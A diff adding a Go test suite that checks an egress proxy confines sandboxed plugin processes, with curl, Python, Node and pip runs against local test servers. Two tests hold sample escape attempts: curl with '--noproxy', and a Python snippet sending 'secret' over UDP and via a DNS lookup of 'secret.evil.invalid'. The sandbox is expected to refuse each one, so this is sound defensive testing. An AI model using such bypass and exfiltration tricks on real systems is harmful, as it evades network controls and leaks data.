@@ -1,0 +1,296 @@
+//go:build linux
+
+package egress_test
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/pem"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync"
+	"testing"
+
+	"conclave/app/egress"
+	"conclave/app/permit"
+	"conclave/app/plugin"
+	"conclave/app/plugin/sandbox"
+	"conclave/app/plugin/worker"
+	"conclave/app/programtest"
+	"conclave/app/testkit"
+)
+
+var must = testkit.Must
+
+func TestMain(m *testing.M) { programtest.Main(m) }
+
+// world is a launcher whose processes have a way out, and servers of this computer.
+type world struct {
+	t        testing.TB
+	launcher *worker.Launcher
+	pass     *egress.Pass
+
+	mu      sync.Mutex
+	allowed []string // targets as URLs
+}
+
+func newWorld(t testing.TB) *world {
+	t.Helper()
+	w := &world{t: t, launcher: worker.New(worker.Options{Program: programtest.Worker(t)})}
+	t.Cleanup(w.launcher.Close)
+	if c := w.launcher.Confinement(); c.Level != "process+landlock" || c.Network != "" {
+		t.Skip("this system holds no connections:", c)
+	}
+	proxy := egress.New(egress.Options{Ask: func(_ context.Context, _ string, to egress.Target) egress.Verdict {
+		w.mu.Lock()
+		defer w.mu.Unlock()
+		return egress.Verdict{Allow: slices.Contains(w.allowed, to.URL), Private: true, Reason: "nobody allowed it"}
+	}})
+	t.Cleanup(proxy.Close)
+	pass, err := proxy.Admit("p")
+	must(t, err)
+	w.pass = pass
+	return w
+}
+
+// run runs a program behind the walls and returns what it printed.
+func (w *world) run(spec sandbox.Spec, argv ...string) string {
+	w.t.Helper()
+	start := plugin.StartOptions{
+		Granted: []string{permit.Network},
+		Proxy:   plugin.Proxy{Address: w.pass.Address(), URL: w.pass.URL()},
+	}
+	spec.Kind, spec.Argv = "command", argv
+	spec.Env = append(spec.Env, "LANG=C.UTF-8")
+	spec.Read = append(spec.Read, "/usr", "/lib", "/lib64", "/etc/ld.so.cache", "/proc/self", "/sys/fs/cgroup")
+	spec.Execute = append(spec.Execute, argv[0], "/lib64", "/lib")
+	start.ApplyPermissions(&spec)
+	p, err := w.launcher.Start(w.t.Context(), spec)
+	must(w.t, err)
+	out, err := io.ReadAll(p.Wire())
+	must(w.t, err)
+	<-p.Done()
+	return strings.TrimSpace(string(out) + p.Stderr())
+}
+
+// program returns a program of this computer, links resolved.
+func program(t testing.TB, name string) string {
+	t.Helper()
+	path, err := exec.LookPath(name)
+	if err == nil {
+		path, err = filepath.EvalSymlinks(path)
+	}
+	if err != nil {
+		t.Skip("there is no", name, "here")
+	}
+	return path
+}
+
+// servers are one that is allowed, with and without TLS, and one that is not. Each
+// says its name, and leads on where it is asked to.
+func (w *world) servers() (plain, secure, refused, certificate string) {
+	w.t.Helper()
+	serve := func(name string) http.HandlerFunc {
+		return func(rw http.ResponseWriter, r *http.Request) {
+			if to := r.URL.Query().Get("to"); to != "" {
+				http.Redirect(rw, r, to, http.StatusFound)
+				return
+			}
+			_, _ = io.WriteString(rw, "from "+name)
+		}
+	}
+	a, b := httptest.NewServer(serve("plain")), httptest.NewTLSServer(serve("secure"))
+	c := httptest.NewServer(serve("refused"))
+	w.t.Cleanup(func() { a.Close(); b.Close(); c.Close() })
+	certificate = filepath.Join(w.t.TempDir(), "ca.pem")
+	must(w.t, os.WriteFile(certificate, pem.EncodeToMemory(&pem.Block{
+		Type: "CERTIFICATE", Bytes: b.Certificate().Raw,
+	}), 0o600))
+	w.allowed = []string{a.URL, b.URL}
+	return a.URL, b.URL, c.URL, certificate
+}
+
+func TestCurlBehindTheProxy(t *testing.T) {
+	w := newWorld(t)
+	curl := program(t, "curl")
+	plain, secure, refused, certificate := w.servers()
+	spec := sandbox.Spec{Read: []string{certificate}}
+	for _, c := range []struct{ address, want string }{
+		{plain, "from plain"}, {secure, "from secure"}, {refused, "PERMISSION_DENIED"},
+		{strings.Replace(refused, "http:", "https:", 1), "CONNECT tunnel failed, response 403"},
+		{plain + "?to=" + refused, "PERMISSION_DENIED"}, {plain + "?to=" + secure, "from secure"},
+		{"http://nobody.invalid", "PERMISSION_DENIED"},
+	} {
+		if got := w.run(spec, curl, "-sSL", "--cacert", certificate, c.address); !strings.Contains(got, c.want) {
+			t.Errorf("%s: %q, want %q", c.address, got, c.want)
+		}
+	}
+}
+
+func TestAttackCurlThatUsesNoProxy(t *testing.T) {
+	w := newWorld(t)
+	curl := program(t, "curl")
+	plain, _, _, _ := w.servers()
+	for _, how := range [][]string{
+		{"--noproxy", "*"}, {"--noproxy", "*", "--tcp-fastopen"}, {"--noproxy", "*", "--interface", "lo"},
+	} {
+		got := w.run(sandbox.Spec{}, append([]string{curl, "-sS"}, append(how, plain)...)...)
+		if strings.Contains(got, "from plain") || !strings.Contains(got, "curl: (") {
+			t.Errorf("%v: %q", how, got)
+		}
+	}
+	if got := w.run(sandbox.Spec{}, curl, "-sS", "--noproxy", "*", "http://example.org"); !strings.Contains(got,
+		"Could not resolve host") {
+		t.Errorf("a name: %q", got)
+	}
+	if got := w.run(sandbox.Spec{}, curl, "-sS", plain); got != "from plain" {
+		t.Errorf("with the proxy: %q", got)
+	}
+}
+
+func TestPythonsOwnLibraryBehindTheProxy(t *testing.T) {
+	w := newWorld(t)
+	python := program(t, "/usr/bin/python3")
+	plain, secure, refused, certificate := w.servers()
+	const get = `
+import ssl, sys, urllib.request
+address, certificate = sys.argv[1:]
+try: print(urllib.request.urlopen(address, context=ssl.create_default_context(cafile=certificate)).read().decode())
+except OSError as error: print(error)
+`
+	for _, c := range []struct{ address, want string }{
+		{plain, "from plain"}, {secure, "from secure"}, {refused, "HTTP Error 403"},
+		{strings.Replace(refused, "http:", "https:", 1), "Tunnel connection failed: 403 PERMISSION_DENIED: network"},
+		{plain + "?to=" + refused, "HTTP Error 403"},
+	} {
+		got := w.run(sandbox.Spec{Read: []string{certificate}}, python, "-I", "-S", "-c", get, c.address, certificate)
+		if !strings.Contains(got, c.want) {
+			t.Errorf("%s: %q, want %q", c.address, got, c.want)
+		}
+	}
+}
+
+// Node's fetch reads the variables from version 24 on. What older ones have without a
+// package is http.request, told of the proxy.
+func TestNodeBehindTheProxy(t *testing.T) {
+	w := newWorld(t)
+	node := program(t, "node")
+	plain, _, refused, _ := w.servers()
+	const get = `
+const [address] = process.argv.slice(1);
+if (process.allowedNodeEnvironmentFlags.has("--use-env-proxy")) {
+  fetch(address).then(r => r.text()).then(t => console.log(t), e => console.log(String(e.cause ?? e)));
+} else {
+  const proxy = new URL(process.env.HTTP_PROXY);
+  const headers = {"Proxy-Authorization": "Basic " + btoa(proxy.username + ":" + proxy.password), Host: new URL(address).host};
+  require("http").get({host: proxy.hostname, port: proxy.port, path: address, headers}, r => r.pipe(process.stdout));
+}`
+	const without = `fetch(process.argv[1], {dispatcher: undefined}).then(r => r.text()).then(t => console.log(t), e => console.log(String(e.cause ?? e)))`
+	spec := sandbox.Spec{Memory: 4 << 30}
+	for address, want := range map[string]string{plain: "from plain", refused: "PERMISSION_DENIED"} {
+		if got := w.run(spec, node, "-e", get, address); !strings.Contains(got, want) {
+			t.Errorf("%s: %q, want %q", address, got, want)
+		}
+	}
+	old := spec
+	old.Env = []string{"NODE_OPTIONS="}
+	got := w.run(old, node, "-e", without, refused)
+	if strings.Contains(got, "from refused") || got == "" {
+		t.Errorf("without the proxy: %q", got)
+	}
+}
+
+func TestPipBehindTheProxy(t *testing.T) {
+	w := newWorld(t)
+	python := program(t, "/usr/bin/python3")
+	if out, err := exec.CommandContext(t.Context(), python, "-m", "pip", "--version").CombinedOutput(); err != nil {
+		t.Skipf("there is no pip here: %s", out)
+	}
+	wheel, err := base64.StdEncoding.DecodeString(tinyWheel)
+	must(t, err)
+	index := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/simple/tiny/":
+			rw.Header().Set("Content-Type", "text/html")
+			_, _ = io.WriteString(rw, `<a href="/tiny-1.0-py3-none-any.whl">tiny-1.0-py3-none-any.whl</a>`)
+		case "/tiny-1.0-py3-none-any.whl":
+			_, _ = rw.Write(wheel)
+		default:
+			http.NotFound(rw, r)
+		}
+	}))
+	defer index.Close()
+	folder := t.TempDir()
+	argv := []string{
+		python, "-I", "-m", "pip", "download", "--isolated", "--no-cache-dir", "--disable-pip-version-check",
+		"--retries", "0", "--timeout", "10", "--no-deps", "-d", folder, "-i", index.URL + "/simple/",
+		"--trusted-host", "127.0.0.1", "tiny",
+	}
+	spec := sandbox.Spec{Env: []string{"HOME=" + folder, "TMPDIR=" + folder}, Write: []string{folder}, Dir: folder}
+	spec.Read = []string{"/etc"}
+	if got := w.run(spec, argv...); strings.Contains(got, "Saved ") || !strings.Contains(got, "403") &&
+		!strings.Contains(got, "No matching distribution") {
+		t.Errorf("refused: %q", got)
+	}
+	w.allowed = []string{index.URL}
+	if got := w.run(spec, argv...); !strings.Contains(got, "Successfully downloaded tiny") {
+		t.Errorf("allowed: %q", got)
+	}
+}
+
+// What a plugin could try that knows no proxy: names, datagrams, and a server of names.
+func TestAttackATunnelThroughTheNameService(t *testing.T) {
+	w := newWorld(t)
+	python := program(t, "/usr/bin/python3")
+	names, err := net.ListenPacket("udp", "127.0.0.1:0")
+	must(t, err)
+	defer func() { _ = names.Close() }()
+	over := make(chan string, 1)
+	go func() { // ended by closing the connection
+		buf := make([]byte, 512)
+		n, _, err := names.ReadFrom(buf)
+		if err == nil {
+			over <- string(buf[:n])
+		}
+		close(over)
+	}()
+	_, port, err := net.SplitHostPort(names.LocalAddr().String())
+	must(t, err)
+	const out = `
+import socket, sys
+to = ("127.0.0.1", int(sys.argv[1]))
+def attempt(name, do):
+    try: do(); print(name, "done")
+    except OSError as e: print(name, "refused")
+attempt("datagram", lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"secret", to))
+attempt("name", lambda: socket.getaddrinfo("secret.evil.invalid", 80))
+attempt("by TCP", lambda: socket.create_connection(to))
+`
+	got := w.run(sandbox.Spec{}, python, "-I", "-S", "-c", out, port)
+	if want := "datagram refused\nname refused\nby TCP refused"; got != want {
+		t.Errorf("%q, want %q", got, want)
+	}
+	_ = names.Close()
+	if said, ok := <-over; ok {
+		t.Errorf("the name server was told %q", said)
+	}
+}
+
+// tinyWheel is a package of one line.
+const tinyWheel = "UEsDBBQAAAAAAAAAIVA7ifaLBgAAAAYAAAAHAAAAdGlueS5weXggPSAxClBLAwQUAAAAAAAAACFQ0qXdeS4AAAAuAAAAGwAA" +
+	"AHRpbnktMS4wLmRpc3QtaW5mby9NRVRBREFUQU1ldGFkYXRhLVZlcnNpb246IDIuMQpOYW1lOiB0aW55ClZlcnNpb246IDEu" +
+	"MApQSwMEFAAAAAAAAAAhUKpl5BVIAAAASAAAABgAAAB0aW55LTEuMC5kaXN0LWluZm8vV0hFRUxXaGVlbC1WZXJzaW9uOiAx" +
+	"LjAKR2VuZXJhdG9yOiB4ClJvb3QtSXMtUHVyZWxpYjogdHJ1ZQpUYWc6IHB5My1ub25lLWFueQpQSwMEFAAAAAAAAAAhUCiQ" +
+	"Q5RfAAAAXwAAABkAAAB0aW55LTEuMC5kaXN0LWluZm8vUkVDT1JEdGlueS5weSwsCnRpbnktMS4wLmRpc3QtaW5mby9NRVRB" +
+	"REFUQSwsCnRpbnktMS4wLmRpc3QtaW5mby9XSEVFTCwsCnRpbnktMS4wLmRpc3QtaW5mby9SRUNPUkQsLApQSwECFAMUAAAA" +
+	"AAAAACFQO4n2iwYAAAAGAAAABwAAAAAAAAAAAAAAgAEAAAAAdGlueS5weVBLAQIUAxQAAAAAAAAAIVDSpd15LgAAAC4AAAAb" +
+	"AAAAAAAAAAAAAACAASsAAAB0aW55LTEuMC5kaXN0LWluZm8vTUVUQURBVEFQSwECFAMUAAAAAAAAACFQqmXkFUgAAABIAAAA" +
+	"GAAAAAAAAAAAAAAAgAGSAAAAdGlueS0xLjAuZGlzdC1pbmZvL1dIRUVMUEsBAhQDFAAAAAAAAAAhUCiQQ5RfAAAAXwAAABkA" +
+	"AAAAAAAAAAAAAIABEAEAAHRpbnktMS4wLmRpc3QtaW5mby9SRUNPUkRQSwUGAAAAAAQABAALAQAApgEAAAAA"
